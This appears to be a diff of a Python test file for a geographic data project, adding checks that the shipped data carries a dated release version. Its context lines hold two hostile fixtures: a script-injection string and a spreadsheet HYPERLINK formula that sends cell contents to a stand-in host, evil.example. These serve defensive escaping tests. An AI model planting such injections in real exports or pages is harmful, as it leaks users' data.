@@ -16,6 +16,7 @@ from geo.load import load_atlas, read_deployments
 from geo.mapdata import assign_colors
 from geo.snapshot_html import embed_code, snapshot_html
 from geo.validate import DATA_DIR, CountryIndex
+from geo.versions import is_dated_version, release_missing
 
 HOSTILE = "</script><script>alert(1)</script>${x}`"
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
@@ -119,9 +120,15 @@ def test_datapackage_describes_every_field_and_the_shipped_one_is_current():
 
 def test_data_version_changes_with_the_data(data_dir):
     before = data_version(data_dir)
-    assert before == data_version(data_dir) and len(before) == 12
-    (data_dir / "vendors.csv").write_text((data_dir / "vendors.csv").read_text() + "\n")
+    assert before == data_version(data_dir) and before.startswith("unreleased+")
+    rows = (data_dir / "vendors.csv").read_text().replace("Makes cameras.", "Makes cameras and software.")
+    (data_dir / "vendors.csv").write_text(rows)
     assert data_version(data_dir) != before
+
+
+def test_the_shipped_data_is_a_dated_release_and_the_datapackage_carries_it():
+    assert is_dated_version(data_version(DATA_DIR)), release_missing(DATA_DIR)
+    assert json.loads((DATA_DIR / "datapackage.json").read_text())["version"] == data_version(DATA_DIR)
 
 
 def test_citation_names_project_version_view_link_and_date():
